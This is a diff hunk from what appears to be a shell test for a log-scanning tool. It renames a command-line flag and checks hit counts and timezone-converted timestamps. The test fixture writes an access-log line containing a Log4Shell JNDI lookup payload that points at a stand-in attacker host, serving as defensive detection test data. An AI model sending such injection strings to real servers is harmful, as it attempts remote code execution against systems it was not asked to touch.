@@ -201,7 +201,7 @@ X
       '203.0.113.7 - - [11/Dec/2021:12:30:00 +0100] "GET /?q=${jndi:ldap://x.evil.example/b} HTTP/1.1" 200 5 "-" "c"' \
       > "$T/access.log"
     TZ=Asia/Tokyo run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary \
-        --iocs "$T/iocs.csv" "$T/access.log"
+        --export-iocs "$T/iocs.csv" "$T/access.log"
     [ "$status" -eq 1 ]
     [[ "$output" == *"access.log: 2 hits, first 2021-12-11T19:00:01+09:00, last 2021-12-11T20:30:00+09:00"* ]]
     ! grep 'hits, first' <<<"$output" | grep -q 'Dec/2021'
